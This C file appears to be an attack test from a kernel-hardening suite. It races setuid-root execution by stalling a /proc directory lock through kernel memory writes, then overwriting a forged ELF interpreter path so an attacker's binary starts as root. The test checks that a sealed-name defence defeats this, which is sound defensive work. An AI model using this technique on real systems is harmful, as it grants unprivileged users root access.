// SPDX-License-Identifier: GPL-2.0-only
#include <stdbool.h>

static bool is_attackers(void);
#define OTHER_PROGRAM is_attackers()
#include "../saved_thread.h"
#include "execution.h"

#include <linux/elf.h>

ATTACK("cred_integrity", "interpreter_name", "LOST",
       "The attacker executes a program of root with the set-user-id bit and an interpreter. While "
       "the kernel looks for that, he writes the name of a program of his own over its name.",
       "The name is sealed when it has been read, and looked up there; the copy counts for "
       "nothing.",
       "The attacker's program is started in the place of the interpreter, as root.");

#define MARK_BYTE 18
#define DIRECTORY "/proc/1/../../" /* the number is looked up under a lock each time */
#define LAWFUL "./lawful"
#define MINE "tmp/mine"
#define PROGRAM_SIZE_MAX (1 << 20)

/* In a copy of the program the last digit may be another. */
static volatile const char mark[] = "interpreter_name: 0";

static bool is_attackers(void)
{
	return mark[MARK_BYTE] == '1' && is_root();
}

static char program[PROGRAM_SIZE_MAX];
static long program_size;

static void read_program(void)
{
	const long file = call3(__NR_open, (long)"/init", O_RDONLY, 0);

	program_size = call3(__NR_read, file, (long)program, sizeof(program));
	call1(__NR_close, file);
}

static void write_program(const char *path, const char *more, long mode)
{
	const long file = call3(__NR_open, (long)path, O_CREAT | O_WRONLY, 0755);

	call3(__NR_write, file, (long)program, program_size);
	call3(__NR_write, file, (long)more, (long)text_length(more) + 1);
	call2(__NR_fchmod, file, mode);
	call1(__NR_close, file);
}

/* What says whether the stack is executable says which interpreter there is. */
static void name_interpreter(unsigned long size)
{
	const Elf64_Ehdr *const header = (const Elf64_Ehdr *)program;
	Elf64_Phdr *const table = (Elf64_Phdr *)(program + header->e_phoff);

	for (int i = 0; i < header->e_phnum; i++) {
		if (table[i].p_type != PT_GNU_STACK)
			continue;
		table[i] = (Elf64_Phdr){ .p_type = PT_INTERP,
					 .p_flags = PF_R,
					 .p_offset = (unsigned long)program_size,
					 .p_filesz = size,
					 .p_memsz = size,
					 .p_align = 1 };
	}
}

static void make_own_program(void)
{
	read_program();
	for (long i = 0; i + MARK_BYTE < program_size; i++) {
		bool same = true;

		for (int k = 0; k <= MARK_BYTE && same; k++)
			same = program[i + k] == mark[k];
		if (same)
			program[i + MARK_BYTE] = '1';
	}
	write_program("/" MINE, "", 0755);
}

/* The lawful way: root's program is started by its interpreter. */
static bool control(void)
{
	long child;

	make_own_program();
	child = start_waiting(0, SET_ID, environment, 1);
	start_go();
	return is_ordinary() && wait_program(child) >> 8 == 1;
}

/* Over the name of the interpreter that CHILD is looking for, and waits. */
static void change_name(uint64_t child)
{
	const uint64_t path = member("execution.path");
	uint64_t execution = 0, mine;

	await((execution = find_execution_with(path)) != 0);
	await(is_asleep(child));
	__builtin_memcpy(&mine, MINE, sizeof(mine));
	poke(peek(execution + path) + sizeof(DIRECTORY) - 1, mine);
}

/* Who looks for a process in /proc waits for the directory's lock; who gives it back wakes him. */
static bool fire(void)
{
	const long child = start_waiting(0, SET_ID, environment, 1);
	const long directory = call3(__NR_open, (long)"/proc", O_RDONLY, 0);
	const uint64_t inode = peek(file_struct(own_task(), (int)directory) + member("file.inode"));
	const uint64_t owner = inode + member("inode.lock") + member("mutex.owner");

	(void)own_cpu(0);
	poke(owner, own_task());
	start_go();
	change_name(child_task(own_task(), child));
	poke(owner, 0);
	call4(__NR_newfstatat, directory, (long)"1", (long)program, 0);
	return wait_program(child) >> 8 == 77;
}

static void victim(void)
{
	read_program();
	write_program("/lawful", "", 0755);
	name_interpreter(sizeof(DIRECTORY LAWFUL));
	write_program(SET_ID, DIRECTORY LAWFUL, 04755);
	victim_waits();
}
